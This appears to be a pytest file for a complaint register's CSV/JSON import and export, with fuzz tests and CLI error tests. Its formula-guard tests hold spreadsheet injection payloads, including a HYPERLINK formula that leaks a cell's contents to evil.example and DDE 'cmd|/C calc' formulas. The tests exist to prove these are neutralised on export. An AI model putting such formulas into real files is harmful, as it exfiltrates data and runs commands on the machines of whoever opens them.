        ("\ufeffSummary , CATEGORY,received_on,client_name\r\nBill,costs,2026-11-01,Jane\r\n", []),
        ("summary,category,received_on,client_name,\r\nBill,costs,2026-11-01,Jane,\r\n\r\n,,,\r\n", []),
        (
            "summary,category,received_on,client_name\r\nBill,costs,2026-11-01,Jane,extra\r\n",
            ["line 2, column #5: this cell has no column name in the header; leave it blank or name the column"],
        ),
        (
            'summary,category,received_on,client_name\r\n"Bill\nover two lines",costs,2026-11-01,Jane\r\nB,x,2026-11-01,J\r\n',
            [
                "line 4, column category: “x” is not one of: costs, delay, communication, advice, conduct, confidentiality, other"
            ],
        ),
        # A line break inside a cell is a line feed: a carriage return is refused like every control character.
        (
            'summary,category,received_on,client_name\r\n"Bill\r\nover two lines",costs,2026-11-01,Jane\r\nB,x,2026-11-01,J\r\n',
            [
                "line 2, column summary: contains a control character (U+000D) at character 5 that cannot be stored; remove it",
                "line 4, column category: “x” is not one of: costs, delay, communication, advice, conduct, confidentiality, other",
            ],
        ),
        (
            "client_name,received_on,category,summ\x00ary\r\n",
            [
                "line 1, column #4: the column name contains a control character (U+0000) at character 5 that cannot be stored; "
                "remove it",
                "line 1, column summary: this required column is missing from the header",
            ],
        ),
        (
            'summary,category,received_on,client_name\r\nBill,costs,2026-11-01,Jane\r\n"open,costs,2026-11-01,Jane\r\n',
            ["line 3, column *: this is not valid CSV (unexpected end of data); nothing after it was read"],
        ),
    ],
)
def test_the_file_as_a_whole(content, report):
    parsed = read_register(io.StringIO(content, newline=""), reading=Reading(now=T0, tz=LONDON))
    assert [str(r) for r in parsed.rejections] == report


# --- export: ranges, one complaint, the record of an export --------------------------------------


def test_from_and_to_are_inclusive_days_received(ctx):
    refs = {}
    for day in ("2026-11-01", "2026-11-10", "2026-11-15", "2026-11-20"):
        refs[day] = log(ctx, received_on=day)

    def received(**kwargs) -> list[str]:
        return [r["received_on"] for r in rows_of(export(ctx, **kwargs))]

    assert received(received_from=date(2026, 11, 10), received_to=date(2026, 11, 15)) == ["2026-11-10", "2026-11-15"]
    assert received(received_from=date(2026, 11, 11)) == ["2026-11-15", "2026-11-20"]
    assert received(received_to=date(2026, 11, 10)) == ["2026-11-01", "2026-11-10"]
    assert received(received_from=date(2026, 11, 21)) == []
    assert [d["received_on"] for d in json.loads(export(ctx, "json", received_from=date(2026, 11, 20)))] == [
        "2026-11-20"
    ]
    with pytest.raises(register.RegisterError, match="--from 2026-11-20 is after --to 2026-11-10"):
        export(ctx, received_from=date(2026, 11, 20), received_to=date(2026, 11, 10))


def test_a_register_export_is_recorded_once_with_who_what_and_range(ctx):
    a_store_of_every_kind(ctx)
    now = ctx.clock.now()
    export(ctx, "json", now=now, received_from=date(2026, 11, 20))
    export(ctx, "csv", now=now, disclosures=True)
    with ctx.session_factory() as session:
        recorded = (
            session.execute(select(Event).where(Event.kind == EventKind.EXPORTED).order_by(Event.id)).scalars().all()
        )
    assert [(e.complaint_id, e.disclosure_id, e.actor, e.at, e.data) for e in recorded] == [
        (None, None, ACTOR, now, {"format": "json", "what": "complaints", "from": "2026-11-20", "to": None, "rows": 3}),
        (None, None, ACTOR, now, {"format": "csv", "what": "disclosures", "from": None, "to": None, "rows": 1}),
    ]


def test_the_disclosures_register(ctx):
    ref = disclose(ctx, "M-1001")
    [row] = rows_of(export(ctx, disclosures=True))
    assert row == {
        "reference": ref,
        "client_name": "Jane Client",
        "matter_ref": "M-1001",
        "kind": "costs_estimate",
        "content": "Estimated fees £12,000 plus VAT.",
        "amount": "",
        "disclosed_on": "2026-11-23",
        "disclosed_via": "email",
        "ack_status": "pending",
        "acknowledged_at": "",
        "follow_up_on": "2026-11-30",
        "document_url": "https://docs.example.com/letter.pdf",
        "logged_by": "UFEE",
        "logged_at": "2026-11-23T09:30:00Z",
    }
    assert export(ctx, disclosures=True, received_to=date(2026, 11, 22)).count("\n") == 1  # the header alone


def test_one_complaint_with_its_timeline_and_the_disclosures_on_its_matter(ctx):
    refs = a_store_of_every_kind(ctx)
    now = ctx.clock.now()
    out = io.StringIO()
    register.export_complaint(
        session_factory=ctx.session_factory, reference=refs[0], out=out, actor=ACTOR, now=now, tz=LONDON
    )
    document = json.loads(out.getvalue())
    assert document["complaint"] == json.loads(export(ctx, "json"))[0]
    assert [e["kind"] for e in document["timeline"]] == [
        "logged",
        "acknowledgement_sent",
        "triaged",
        "client_update",
        "holding_response",
        "resolved",
        "exported",
    ]
    assert document["timeline"][0] == {
        "at": "2026-11-23T09:30:00Z",
        "kind": "logged",
        "actor": "UREPORTER",
        "data": {
            "reference": refs[0],
            "received_on": "2026-11-20",
            "received_via": "email",
            "category": "delay",
            "problem_on": "2026-09-30",
            "aware_on": "2026-10-12",
        },
    }
    assert document["timeline"][-1] == {
        "at": register._utc_text(now),
        "kind": "exported",
        "actor": ACTOR,
        "data": {"format": "json"},
    }
    assert [d["matter_ref"] for d in document["disclosures"]] == ["M-1001"]
    with ctx.session_factory() as session:
        stored = (
            session.execute(
                select(Event).join(Complaint).where(Complaint.reference == refs[0], Event.kind == EventKind.EXPORTED)
            )
            .scalars()
            .all()
        )
    assert [(e.actor, e.at) for e in stored] == [(ACTOR, now)]

    with pytest.raises(NotFound, match="There is no complaint CMP-2026-0999"):
        register.export_complaint(
            session_factory=ctx.session_factory,
            reference="CMP-2026-0999",
            out=io.StringIO(),
            actor=ACTOR,
            now=now,
            tz=LONDON,
        )


def test_a_failed_export_leaves_no_file_and_no_record(ctx, tmp_path, monkeypatch):
    a_store_of_every_kind(ctx)
    target = tmp_path / "register.csv"

    def fail_half_way(out, columns, rows, tz, names):
        out.write("reference,status\r\nCMP-2026-0001,new\r\n")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(register, "write_csv", fail_half_way)
    with pytest.raises(OSError):
        export_file(ctx, target)
    assert not target.exists() and not list(tmp_path.glob(".register.csv.*"))
    with ctx.session_factory() as session:
        assert session.execute(select(Event).where(Event.kind == EventKind.EXPORTED)).first() is None


# --- streaming --------------------------------------------------------------------------------------


def bulk(n: int) -> str:
    rows = [
        good_row(
            client_name=f"Client {i}",
            summary=f"Complaint number {i} about a long delay on the matter.",
            reference=f"CMP-2025-{i + 1:04d}",
        )
        for i in range(n)
    ]
    return csv_text(rows)


def test_the_export_streams_rows_instead_of_building_a_list(ctx):
    n = 6000
    assert import_into(ctx, bulk(n), ctx).written
    cursors = []

    @event.listens_for(ctx.engine, "before_cursor_execute")
    def _seen(conn, cursor, statement, parameters, context, executemany):
        cursors.append(type(cursor).__name__)

    columns = register.store_columns(COLUMNS)
    with store.reading(ctx.engine) as conn:
        tracemalloc.start()
        streamed = 0
        for _ in store.stream_complaints(conn, columns=columns):
            streamed += 1
        _, stream_peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        tracemalloc.start()
        everything = list(store.stream_complaints(conn, columns=columns))
        _, list_peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert streamed == len(everything) == n
    # Holding every row costs the list; streaming holds one fetch of rows at a time.
    assert stream_peak * 3 < list_peak, (stream_peak, list_peak)
    if ctx.engine.dialect.name == "postgresql":
        assert cursors and all(name == "ServerCursor" for name in cursors), cursors


def test_the_bot_can_write_while_an_export_is_reading(ctx):
    """An export of a large store takes a while: it must not hold the write lock meanwhile (on
    SQLite the engine's own transactions begin with BEGIN IMMEDIATE)."""
    assert import_into(ctx, bulk(2500), ctx).written
    with store.reading(ctx.engine) as conn:
        rows = store.stream_complaints(conn, columns=register.store_columns(COLUMNS))
        first = next(rows)
        started = datetime.now()
        ref = log(ctx, received_on="2026-11-20")  # waits for the lock if the export holds it
        assert datetime.now() - started < timedelta(seconds=5)
        rest = sum(1 for _ in rows)
        rows.close()
    # The export reads the snapshot it started with: the complaint logged meanwhile is not in it.
    assert first.reference == "CMP-2025-0001" and rest == 2499 and ref == "CMP-2026-0001"


# --- the command line ---------------------------------------------------------------------------


@pytest.fixture
def run(engine, cli_run):
    """`complaint-bot …` in this process, against the test store (migrated); (exit status, stdout, stderr)."""
    return cli_run


def test_cli_export_and_import_round_trip(ctx, run, tmp_path, other_store, monkeypatch):
    ctx.clock.set(T0 - timedelta(days=3))  # the command line runs on the real clock: keep every record in the past
    ref = log(ctx, received_on="2026-11-19")
    triage(ctx, ref)
    status, out, err = run("export", "--out", "register.csv")
    assert status == 0, err
    assert out == "" and "Exported 1 complaint(s) to register.csv; recorded as an export by cli:alice." in err
    assert (tmp_path / "register.csv").read_bytes().startswith(",".join(HEADER).encode() + b"\r\n")
    status, out, _ = run("export", "--format", "json", "--from", "2026-11-19", "--to", "2026-11-19")
    assert status == 0 and json.loads(out)[0]["reference"] == ref
    status, out, _ = run("export", "--ref", ref.lower())
    assert status == 0 and json.loads(out)["timeline"][-1]["actor"] == "cli:alice"

    # Into an empty store: a dry run first, then the import.
    monkeypatch.setenv("DATABASE_URL", str(other_store.engine.url.render_as_string(hide_password=False)))
    status, out, _ = run("import", "register.csv", "--dry-run")
    assert (status, out) == (0, "1 complaints would be imported (0 new references). Nothing was written (dry run).\n")
    assert snapshot(other_store)["complaints"] == []
    status, out, _ = run("import", "register.csv")
    assert (status, out) == (0, "1 complaints imported (0 new references).\n")
    status, out, _ = run("import", "register.csv")
    assert status == 1 and out.splitlines() == [
        f"line 2, column reference: {ref} is already in the store",
        "1 row(s) rejected, so nothing was imported (an import is all or nothing): fix them and run it again; "
        "--dry-run checks without writing.",
    ]


# Client text a spreadsheet would run as a formula, in every free-text column of the register.
FORMULAS = {
    "client_name": '=HYPERLINK("https://evil.example/?leak="&E2,"Open")',
    "matter_ref": "+M-1001",
    "summary": "-1 day late; they were told the 30th",
    "client_request": "@SUM(1+1)*cmd|' /C calc'!A0",
    "remedy": "'=2+2, already quoted once",
}
MORE_FORMULAS = {
    "client_name": "+44 20 7946 0000",
    "matter_ref": "''-M-2",
    "summary": "=1+1",
    "client_request": "-",
    "remedy": "@once",
}
DISCLOSURE_FORMULAS = {"client_name": "@Jane Client", "matter_ref": "=M-1001", "content": "-£250 off; '=not a formula"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def log_hostile(ctx, text: dict[str, str], *, received_on: str) -> str:
    ref = log(ctx, received_on=received_on, **{k: v for k, v in text.items() if k != "remedy"})
    data = parse_resolution(
        {
            "outcome": "upheld",
            "remedy": text["remedy"],
            "final_response_sent_on": ctx.today().isoformat(),
            "ombudsman": ",".join(p.value for p in OmbudsmanPoint),
            "root_cause": "costs_information",
        },
        today=ctx.today(),
    )
    complaints.resolve(
        session_factory=ctx.session_factory,
        reference=ref,
        data=data,
        actor="UHANDLER1",
        now=ctx.clock.now(),
        settings=ctx.settings,
    )
    return ref


def stored_text(where, refs: list[str]) -> list[dict[str, str]]:
    with where.session_factory() as session:
        by_ref = {c.reference: c for c in session.execute(select(Complaint)).scalars()}
    return [{name: getattr(by_ref[ref], name) for name in FORMULAS} for ref in refs]


def test_cli_csv_never_holds_a_formula_and_gives_back_the_text_exactly(ctx, run, tmp_path, other_store, monkeypatch):
    ctx.clock.set(T0 - timedelta(days=3))  # the command line runs on the real clock
    refs = [
        log_hostile(ctx, FORMULAS, received_on="2026-11-19"),
        log_hostile(ctx, MORE_FORMULAS, received_on="2026-11-18"),
    ]
    # A text that begins with a tab, as an earlier import may have stored it (a modal strips it).
    tabbed = log(ctx, received_on="2026-11-17", summary="placeholder")
    with ctx.session_factory.begin() as session:
        session.execute(update(Complaint).where(Complaint.reference == tabbed).values(summary="\tindented"))
    disclosures.log_disclosure(
        session_factory=ctx.session_factory,
        data=parse_disclosure(
            {
                **{
                    "kind": "costs_estimate",
                    "disclosed_on": ctx.today().isoformat(),
                    "disclosed_via": "email",
                    "ack_status": "acknowledged",
                    "follow_up_on": None,
                    "document_url": None,
                },
                **DISCLOSURE_FORMULAS,
            },
            today=ctx.today(),
        ),
        logged_by="UFEE",
        now=ctx.clock.now(),
        settings=ctx.settings,
        policy=ctx.policy,
    )
    originals = stored_text(ctx, refs)
    assert originals == [FORMULAS, MORE_FORMULAS]

    assert run("export", "--out", "register.csv")[0] == 0
    first = (tmp_path / "register.csv").read_bytes()
    rows = rows_of(first.decode())
    cells = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    # Each such cell is written with one quote more than it had, and nothing else about it changes.
    by_ref = {row["reference"]: row for row in rows}
    for ref, cells in zip(refs, (FORMULAS, MORE_FORMULAS), strict=True):
        assert {name: by_ref[ref][name] for name in cells} == {name: "'" + value for name, value in cells.items()}
    assert by_ref[tabbed]["summary"] == "'\tindented"
    assert by_ref[tabbed]["client_name"] == "Jane Client"  # text that is no formula is written as it is
    # JSON is no spreadsheet: it holds the text as it is.
    status, out, _ = run("export", "--format", "json")
    assert (
        status == 0
        and {item["reference"]: item["client_name"] for item in json.loads(out)}[refs[0]] == FORMULAS["client_name"]
    )

    monkeypatch.setenv("DATABASE_URL", str(other_store.engine.url.render_as_string(hide_password=False)))
    status, out, _ = run("import", "register.csv")
    assert (status, out) == (0, "3 complaints imported (0 new references).\n")
    assert stored_text(other_store, refs) == originals
    with other_store.session_factory() as session:
        assert (
            session.execute(select(Complaint.summary).where(Complaint.reference == tabbed)).scalar_one() == "\tindented"
        )
    assert run("export", "--out", "again.csv")[0] == 0
    assert (tmp_path / "again.csv").read_bytes() == first

    # The disclosures register is guarded the same way, and reads back to what was stored.
    monkeypatch.setenv("DATABASE_URL", str(ctx.engine.url.render_as_string(hide_password=False)))
    assert run("export", "--disclosures", "--out", "disclosures.csv")[0] == 0
    [disclosure] = rows_of((tmp_path / "disclosures.csv").read_text())
    assert [c for c in disclosure.values() if c.startswith(TRIGGERS)] == []
    assert {name: disclosure[name] for name in DISCLOSURE_FORMULAS} == {
        name: "'" + value for name, value in DISCLOSURE_FORMULAS.items()
    }
    assert {name: register.Formula.unguard(disclosure[name]) for name in DISCLOSURE_FORMULAS} == DISCLOSURE_FORMULAS


@hsettings(max_examples=500, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "]), max_size=6))
def test_the_formula_guard_is_undone_exactly_and_leaves_no_formula(cell):
    guarded = register.Formula.guard(cell)
    assert register.Formula.unguard(guarded) == cell
    assert not guarded.startswith(TRIGGERS)
    assert guarded == cell or guarded == "'" + cell


def test_cli_import_reports_bad_rows_of_a_file_in_any_encoding_mess(run, tmp_path):
    (tmp_path / "bad.csv").write_bytes(
        b"\xef\xbb\xbfclient_name,received_on,category,summary\r\nJ\xe9r\xf4me,2026-11-01,costs,Bill\r\n"
        b"Jane,01/11/2026,costs,Bill\r\nJane,2026-11-01,costs,Bill\r\n"
    )
    status, out, _ = run("import", "bad.csv", "--dry-run")
    assert status == 1
    assert out.splitlines() == [
        "line 2, column client_name: is not UTF-8 text; save the file as CSV UTF-8",
        "line 3, column received_on: “01/11/2026” is not a date; write it as YYYY-MM-DD, e.g. 2026-11-23",
        "2 row(s) would be rejected, so nothing would be imported; 1 row(s) are fine. Nothing was written (dry run).",
    ]


@pytest.mark.parametrize(
    "args, status, message",
    [
        (["export", "--from", "2026-11-31"], 2, "argument --from: '2026-11-31' is not a date; write it as YYYY-MM-DD"),
        (["export", "--to", "yesterday"], 2, "argument --to: 'yesterday' is not a date"),
        (["export", "--from", "2026-11-20", "--to", "2026-11-01"], 2, "--from 2026-11-20 is after --to 2026-11-01"),
        (
            ["export", "--format", "xml"],
            2,
            "argument --format: 'xml' is not a format the register is written in; use csv or json",
        ),
        (["export", "--ref", "CMP-2026-0999"], 1, "There is no complaint CMP-2026-0999."),
        (["export", "--ref", "DSC-2026-1"], 2, "is not a complaint reference"),
        (["export", "--ref", "CMP-2026-0001", "--format", "csv"], 2, "--ref writes one complaint as JSON"),
        (
            ["export", "--out", "no/such/folder/r.csv"],
            1,
            "Cannot write no/such/folder/r.csv: the folder no/such/folder does not exist.",
        ),
        (["export", "--out", "."], 1, "Cannot write .: it is a folder; give a file name"),
        (["import", "missing.csv"], 1, "missing.csv: there is no such file."),
        (["import", "."], 1, ".: there is no such file."),
    ],
)
def test_cli_errors_are_a_clear_sentence_and_a_non_zero_exit(run, args, status, message):
    got, out, err = run(*args)
    assert got == status and message in err, err
    assert "Traceback" not in out + err


def test_cli_export_and_dry_run_want_the_schema_at_head(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'empty.db'}")
    (tmp_path / "r.csv").write_text("client_name,received_on,category,summary\n")
    for args in (["export"], ["import", "r.csv", "--dry-run"]):
        assert cli.main(args) == 1
        assert "run `complaint-bot migrate` first" in capsys.readouterr().err
    # Neither wrote anything, not even the schema.
    assert (
        create_engine(f"sqlite:///{tmp_path / 'empty.db'}")
        .connect()
        .execute(text("SELECT count(*) FROM sqlite_master WHERE type = 'table'"))
        .scalar_one()
        == 0
    )


# --- Hypothesis: the import parser never crashes, and every rejection is a clear sentence -----------


READING = Reading(now=T0, tz=LONDON)
NASTY = [
    "",
    " ",
    ",",
    '"',
    '""',
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\udce9",
    "\ufeff",
    "yes",
    "no",
    "CMP-2026-0001",
    "cmp-2026-1",
    "CMP-2026-1234567",
    "U0HANDLER",
    "W12",
    "u1",
    "2026-11-01",
    "2026-02-30",
    "2026-11-01T10:00:00Z",
    "2026-11-01T10:00:00+25:00",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "1899-12-31",
    "2026-11-30",
    "20261101",
    "2026-W47-1",
    "-1",
    "0",
    "91",
    "1" * 20,
    "٣",
    "²",
    "x" * 3001,
    "=cmd|' /C calc'!A0",
]
ENUMS = [m.value for e in (Category, ReceivedVia, Severity, Outcome, Status) for m in e]


VALID = {
    "reference": st.builds(lambda y, n: f"CMP-{y}-{n:04d}", st.integers(2020, 2026), st.integers(1, 30)),
    "received_on": st.dates(date(2019, 1, 1), date(2026, 11, 23)).map(date.isoformat),
    "client_name": st.sampled_from(["Jane Client", 'Ann "A" O\'Neil, Ltd', "Zoë Ünal"]),
    "category": st.sampled_from([c.value for c in Category]),
    "summary": st.sampled_from(["Bill too high.", "Line one,\nline two.", "“Quoted”; £250"]),
    "matter_ref": st.sampled_from(["M-1", "M-2001"]),
    "client_request": st.sampled_from(["An apology.", "A refund, in full."]),
    "received_via": st.sampled_from([v.value for v in ReceivedVia]),
    "acknowledged_at": st.datetimes(datetime(2019, 1, 1), datetime(2026, 11, 23, 9)).map(lambda d: d.isoformat() + "Z"),
    "acknowledged_via": st.sampled_from([v.value for v in AcknowledgedVia]),
    "reporter": st.sampled_from(["U0REPORTER", "cli:bob"]),
    "target_date": st.dates(date(2019, 1, 1), date(2027, 12, 31)).map(date.isoformat),
    "client_updates": st.integers(0, 10).map(str),
    "final_response_due_on": st.dates(date(2019, 1, 1), date(2027, 12, 31)).map(date.isoformat),
    "legal_hold": st.sampled_from(["yes", "", "no"]),
    "days_to_resolve": st.text(max_size=5),
}
# Dates that must agree with received_on and with each other: drawn by `a_row` from received_on.
CLIENT_DATES = ("problem_on", "aware_on")
A_DATE = st.dates(date(1890, 1, 1), date(2027, 12, 31)).map(date.isoformat)
# Columns that are fine on their own; the rest depend on each other (resolved_at and outcome, …).
INDEPENDENT = [name for name in VALID if name not in register.REQUIRED]


def hostile(column: str):
    near = {
        "logged_at": st.datetimes(datetime(2019, 1, 1), datetime(2026, 11, 23, 9)).map(lambda d: d.isoformat() + "Z"),
        "resolved_at": st.datetimes(datetime(2019, 1, 1), datetime(2026, 11, 23, 9)).map(lambda d: d.isoformat() + "Z"),
        "handler": st.sampled_from(["U0HANDLER", "W0ABC", "U12"]),
        "update_cadence_days": st.integers(0, 100).map(str),
        "problem_on": A_DATE,
        "aware_on": A_DATE,
        "ombudsman_referral_by": A_DATE,
    }.get(column, VALID.get(column, st.sampled_from(ENUMS)))
    return st.one_of(st.just(""), near, st.sampled_from(ENUMS), st.sampled_from(NASTY), st.text(max_size=12))


@st.composite
def a_row(draw, header: list[str]) -> list[str]:
    """Mostly a valid row (required cells and some independent ones filled), now and then with a
    resolution or a triage, and then from none to all of its cells made hostile."""
    names = [h.strip().lower() for h in header]
    row = dict.fromkeys(names, "")
    for name in names:
        if name in register.REQUIRED or (name in INDEPENDENT and draw(st.booleans())):
            row[name] = draw(VALID[name])
    if "received_on" in names and set(CLIENT_DATES) & set(names) and draw(st.booleans()):
        # The problem up to a year and a half before receipt, the client aware of it in between.
        received = date.fromisoformat(row["received_on"])
        problem = received - timedelta(days=draw(st.integers(0, 550)))
        aware = problem + timedelta(days=draw(st.integers(0, (received - problem).days)))
        for name, value in zip(CLIENT_DATES, (problem, aware), strict=True):
            if name in names and draw(st.booleans()):
                row[name] = value.isoformat()
    if {"resolved_at", "outcome"} <= set(names) and draw(st.booleans()):
        row["resolved_at"] = "2026-11-23T08:00:00Z"
        row["outcome"] = draw(st.sampled_from([o.value for o in Outcome]))
        if "ombudsman_referral_by" in names and draw(st.booleans()):
            row["ombudsman_referral_by"] = draw(A_DATE)
    elif {"handler", "severity"} <= set(names) and draw(st.booleans()):
        row["handler"], row["severity"] = "U0HANDLER", draw(st.sampled_from([s.value for s in Severity]))
    spoil = draw(st.sampled_from(["none", "none", "one", "many"]))
    targets = (
        names
        if spoil == "many"
        else draw(st.lists(st.sampled_from(names), max_size=1))
        if spoil == "one" and names
        else []
    )
    for name in targets:
        if spoil == "one" or draw(st.booleans()):
            row[name] = draw(hostile(name))
    return [row[name] for name in names]


@st.composite
def registers(draw, header_problems: bool = True) -> tuple[str, list[str]]:
    """A CSV register: a header of known (and, with `header_problems`, now and then missing or
    unknown) columns in any order, rows of valid, near-valid and hostile cells; sometimes a row is
    made longer or shorter than the header."""
    names = draw(st.lists(st.sampled_from(HEADER), unique=True, min_size=0, max_size=len(HEADER)))
    required = [n for n in register.REQUIRED if not header_problems or draw(st.integers(0, 19)) > 0]
    header = list(dict.fromkeys([*required, *names]))
    header = draw(st.permutations(header)) if header else header
    if header_problems and draw(st.integers(0, 19)) == 0:
        header.append(draw(st.sampled_from(["colour", "Summary", "", "summary"])))
    rows = []
    for _ in range(draw(st.integers(0 if header_problems else 1, 6))):
        row = draw(a_row(header))
        shape = draw(st.integers(0, 9))
        if shape == 0:
            row.append(draw(st.sampled_from(["", "extra"])))
        elif shape == 1 and row:
            row.pop()
        rows.append(row)
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue(), header


def data_lines(content: str) -> list[int]:
    """The line each non-blank row of `content` starts on, as a spreadsheet would count them."""
    reader = csv.reader(io.StringIO(content, newline=""))
    starts, line = [], 1
    for cells in reader:
        if line > 1 and any(c.strip() for c in cells):
            starts.append(line)
        line = reader.line_num + 1
    return starts


def assert_clear(rejections: list[Rejection], last_line: int) -> None:
    for r in rejections:
        assert isinstance(r.line, int) and 1 <= r.line <= last_line, r
        assert isinstance(r.column, str) and r.column.strip(), r
        assert isinstance(r.reason, str) and len(r.reason) > 5, r
        assert str(r).startswith(f"line {r.line}, column {r.column}: ")


@hsettings(max_examples=1000, derandomize=True, deadline=None)
@given(
    st.one_of(
        st.text(),
        st.text(alphabet=st.sampled_from([",", '"', "\r", "\n", "a", " ", "\x00", "\udce9", "\ufeff"])),
        st.lists(st.sampled_from(NASTY + ENUMS), max_size=40).map(",".join),
    ).map(
        lambda body: body if body[:1] in ("", "x") else "client_name,received_on,category,summary,reference\r\n" + body
    )
)
def test_fuzz_any_text_is_read_without_an_exception(content):
    parsed = read_register(io.StringIO(content, newline=""), reading=READING)
    assert_clear(parsed.rejections, content.count("\n") + content.count("\r") + 1)


@hsettings(max_examples=1000, derandomize=True, deadline=None)
@given(registers())
def test_fuzz_every_row_is_either_accepted_or_rejected_with_a_reason(register_and_header):
    content, header = register_and_header
    parsed = read_register(io.StringIO(content, newline=""), reading=READING)
    lines = data_lines(content)
    assert_clear(parsed.rejections, max([1, *lines]) + content.count("\n"))
    header_problems = [r for r in parsed.rejections if r.line == 1]
    if header_problems:
        assert parsed.rows == []
        return
    rejected = {r.line for r in parsed.rejections}
    accepted = [row.line for row in parsed.rows]
    # Each row is accounted for once: accepted, or rejected with at least one reason.
    assert sorted(accepted + sorted(rejected)) == lines
    for row in parsed.rows:
        v = row.values
        assert all(v[name] is not None for name in register.REQUIRED)
        assert v["received_on"] <= READING.today
        assert (v["resolved_at"] is None) == (v["outcome"] is None)
        assert v["status"] in (None, register.derived_status(v).value)
        assert v["problem_on"] is None or v["problem_on"] <= v["received_on"]
        assert v["aware_on"] is None or v["aware_on"] <= v["received_on"]
        assert v["aware_on"] is None or v["problem_on"] is None or v["problem_on"] <= v["aware_on"]
        assert v["ombudsman_referral_by"] is None or v["resolved_at"] is not None


@hsettings(
    max_examples=60, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(registers(header_problems=False), st.one_of(st.just(-1), st.integers(0, 5)))
def test_fuzz_an_import_writes_everything_or_nothing(ctx, register_and_header, spoil_at):
    """A spoilt row (spoil_at ≥ 0) must leave the store exactly as it was; a file with no rejection
    adds exactly its rows, each with its one imported event."""
    content, header = register_and_header
    names = [h.strip().lower() for h in header]
    if spoil_at >= 0:
        rows = list(csv.reader(io.StringIO(content, newline="")))
        spoilt = dict.fromkeys(names, "") | {"received_on": "2026-11-31"}
        rows.insert(1 + min(spoil_at, len(rows) - 1), [spoilt[name] for name in names])
        out = io.StringIO(newline="")
        csv.writer(out).writerows(rows)
        content = out.getvalue()
    before = snapshot(ctx)
    report = import_into(ctx, content, ctx, now=T0)
    after = snapshot(ctx)
    if spoil_at >= 0:
        assert any(r.column == "received_on" and "2026-11-31" in r.reason for r in report.rejections)
    hypothesis.event("rejected" if report.rejections else f"written: {bool(report.rows)}")
    if report.rejections:
        assert not report.written and after == before
        return
    assert len(after["complaints"]) == len(before["complaints"]) + report.rows
    new_events = after["events"][len(before["events"]) :]
    kind = list(Event.__table__.columns.keys()).index("kind")
    assert len(new_events) == report.rows and {e[kind] for e in new_events} <= {"imported"}


# --- the client's details, the redress and the referral -------------------------------------------

RECORD_COLUMNS = UNSET_HERE  # the columns for the client's details, the redress and the referral


def a_store_with_records(ctx) -> list[str]:
    ctx.clock.set(T0 + timedelta(days=2))
    first = log(ctx, received_on="2026-11-20")
    second = log(ctx, received_on="2026-11-21")
    factories.resolve(ctx, first, redress_offered="1,250.50", redress_paid="1250.5", redress_paid_on="2026-11-24")
    with ctx.session_factory.begin() as s:
        s.execute(
            update(Complaint)
            .where(Complaint.reference == first)
            .values(
                product="wills_and_probate",
                vulnerable=True,
                adjustments="Large print; calls after 2pm.",
                referred_on=date(2026, 11, 24),
                ombudsman_reference="LeO-123/45",
                ombudsman_decision="partly_upheld",
                ombudsman_decided_on=date(2026, 11, 25),
                ombudsman_award=9_999_999_999_99,
            )
        )
        s.execute(update(Complaint).where(Complaint.reference == second).values(vulnerable=False))
    return [first, second]


def test_the_new_columns_round_trip_byte_for_byte(ctx, other_store):
    a_store_with_records(ctx)
    first = export(ctx)
    rows = rows_of(first)
    assert {k: rows[0][k] for k in RECORD_COLUMNS} == {
        "product": "wills_and_probate",
        "vulnerable": "yes",
        "adjustments": "Large print; calls after 2pm.",
        "redress_currency": "GBP",
        "redress_offered": "1250.50",
        "redress_paid": "1250.50",
        "redress_paid_on": "2026-11-24",
        "referred_on": "2026-11-24",
        "ombudsman_reference": "LeO-123/45",
        "ombudsman_decision": "partly_upheld",
        "ombudsman_decided_on": "2026-11-25",
        "ombudsman_award": "9999999999.99",
    }
    assert rows[1]["vulnerable"] == "no" and rows[1]["redress_offered"] == "" and rows[1]["redress_currency"] == ""
    assert rows[0]["root_cause"] == "delay"
    assert import_into(other_store, first, ctx).written
    assert export(other_store) == first
    with other_store.session_factory() as s:
        c = s.execute(select(Complaint).where(Complaint.reference == rows[0]["reference"])).scalar_one()
    assert (c.redress_offered, c.redress_paid, c.ombudsman_award) == (125050, 125050, 999999999999)


def test_an_older_register_without_the_columns_imports_and_old_root_causes_are_moved(ctx, other_store):
    a_store_with_records(ctx)
    rows = rows_of(export(ctx))
    old = [{k: v for k, v in r.items() if k not in RECORD_COLUMNS and k != "reference"} for r in rows]
    old[0]["root_cause"] = "costs"  # a root cause of the old list, the categories
    report = import_into(other_store, csv_text(old, header=list(old[0])), ctx)
    assert report.written and report.rejections == ()
    again = rows_of(export(other_store))
    assert again[-2]["root_cause"] == "costs_information"
    assert all(again[-1][k] == "" for k in RECORD_COLUMNS)
    # "other", retired from the list, is read as it is.
    old[0]["root_cause"] = "other"
    old[0]["client_name"] = "Someone Else"
    assert import_into(other_store, csv_text(old[:1], header=list(old[0])), ctx).written
    assert rows_of(export(other_store))[-1]["root_cause"] == "other"


def test_every_bad_value_is_reported_by_line_and_column(ctx, other_store):
    a_store_with_records(ctx)
    rows = rows_of(export(ctx))
    bad = [{**rows[0], "reference": ""} for _ in range(5)]
    bad[0] |= {"redress_offered": "-5", "product": "spaceships"}
    bad[1] |= {"redress_paid": "ten pounds", "vulnerable": "maybe"}
    bad[2] |= {"redress_paid": "1.005", "root_cause": "weather"}
    bad[3] |= {
        "redress_currency": "JPY",
        "redress_offered": "12.5",
        "redress_paid": "",
        "redress_paid_on": "2026-11-19",
    }
    bad[4] |= {"redress_currency": "XYZ", "ombudsman_decision": "", "ombudsman_decided_on": "2026-11-23"}
    report = import_into(other_store, csv_text(bad), ctx)
    assert not report.written
    said = {(r.line, r.column): r.reason for r in report.rejections}
    assert "cannot be negative" in said[(2, "redress_offered")]
    assert "spaceships" in said[(2, "product")] and "PRODUCT_GROUPS" in said[(2, "product")]
